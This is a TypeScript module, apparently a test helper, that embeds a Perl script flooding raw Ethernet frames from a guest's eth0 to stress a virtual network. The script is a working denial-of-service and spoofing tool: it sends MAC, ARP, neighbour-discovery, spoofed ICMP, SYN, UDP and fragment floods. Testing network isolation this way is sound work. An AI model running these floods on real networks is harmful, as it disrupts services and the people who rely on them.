/**
 * A perl program (5.14 or later, no modules besides the core's) that sends frames out of eth0 as fast as it can, as a hostile guest would.
 * Arguments: KIND SECONDS COUNT GATEWAY PREFIX. It ends after so many seconds or frames, whichever comes first, and prints how many it sent. GATEWAY: the address of
 * the network's gateway, on its first bridge. PREFIX: where invented addresses are from, or random targets are.
 */
export const flood = `use strict; use warnings; use Time::HiRes 'time';
my ($kind, $seconds, $count, $gateway, $prefix) = @ARGV;
sub line { open my $file, '<', "/sys/class/net/eth0/$_[0]" or die "eth0: $!"; my $line = <$file>; chomp $line; $line }
my $own = pack 'H*', line('address') =~ s/://gr;
my ($from) = map { pack 'C4', split /[.]/ } \`ip -4 -o address show dev eth0\` =~ /inet ([0-9.]+)/;
my $router = pack 'C4', split /[.]/, $gateway;
my $bridge = pack 'H*', '525200ff0000';
my ($base, $length) = split m{/}, $prefix;
$base = unpack 'N', pack 'C4', split /[.]/, $base;
sub invented { pack 'N', $base + 1 + int rand(2 ** (32 - $length) - 2) }
sub sum { my $bytes = $_[0]; $bytes .= "\\0" if length($bytes) % 2; my $sum = unpack '%32n*', $bytes; $sum = ($sum & 65535) + ($sum >> 16) while $sum >> 16; ~$sum & 65535 }
sub ethernet { my ($to, $source, $type, $payload) = @_; $to . $source . pack('n', $type) . $payload . "\\0" x (46 - length $payload) }
sub ip { my ($protocol, $source, $to, $payload, $fragment) = @_;
  my $head = pack 'CCnnnCCna4a4', 69, 0, 20 + length $payload, rand 65536, $fragment || 0, 64, $protocol, 0, $source, $to;
  substr $head, 10, 2, pack 'n', sum($head);
  ethernet($bridge, $own, 0x0800, $head . $payload) }
sub checked { my ($payload, $at, $pseudo) = @_; substr $payload, $at, 2, pack 'n', sum(($pseudo || '') . $payload); $payload }
sub echo { checked(pack('CCnnna32', 8, 0, 0, rand 65536, rand 65536, 'x'), 2) }
sub mac { pack 'Cn2C', 2, rand 65536, rand 65536, rand 256 }
my %frames = (
  macs => sub { ethernet("\\xff" x 6, mac(), 0x88b5, 'x') },
  lldp => sub { ethernet(pack('H*', '0180c200000e'), mac(), 0x88cc, 'x') },
  arp => sub { ethernet("\\xff" x 6, $own, 0x0806, pack 'nnCCna6a4a6a4', 1, 0x0800, 6, 4, 1, $own, invented(), '', $router) },
  nd => sub { my ($source, $to) = (pack('H16', 'fe80000000000000') . pack('n4', map { rand 65536 } 1 .. 4), pack 'H32', 'ff0200000000000000000001ff000000');
    my $ask = pack('CCnNa16CCa6', 135, 0, 0, 0, pack('H32', 'fe80000000000000505200fffeff0000'), 1, 1, $own);
    ethernet(pack('H*', '3333ff000000'), $own, 0x86dd, pack('NnCC', 0x60000000, length $ask, 58, 255) . $source . $to . checked($ask, 2, $source . $to . pack 'NN', length $ask, 58)) },
  strangers => sub { ip(1, invented(), $router, echo()) },
  echo => sub { ip(1, $from, $router, echo()) },
  fragments => sub { ip(17, $from, $router, 'x' x 1400, 0x2000) },
  syn => sub { my $to = invented(); ip(6, $from, $to, checked(pack('nnNNCCnnn', 1024 + rand 60000, 1 + rand 65000, rand 2 ** 32, 0, 80, 2, 65535, 0, 0), 16, $from . $to . pack 'nn', 6, 20)) },
  udp => sub { ip(17, $from, invented(), pack 'nnnna8', 1024 + rand 60000, 1 + rand 65000, 16, 0, 'x') },
);
my $frame = $frames{$kind} or die "no such flood: $kind";
socket(my $socket, 17, 3, 0x0300) or die "socket: $!";
my $place = pack 'SnlSCCH16', 17, 0x0300, line('ifindex'), 1, 0, 6, 'ffffffffffff0000';
my ($sent, $end) = (0, time + $seconds);
while ((!$count || $sent < $count) && time < $end) { send $socket, $frame->(), 0, $place; $sent++ }
print "$sent\\n";
`

/** What floods it can send. */
export const floods = ['macs', 'lldp', 'arp', 'nd', 'strangers', 'echo', 'fragments', 'syn', 'udp'] as const
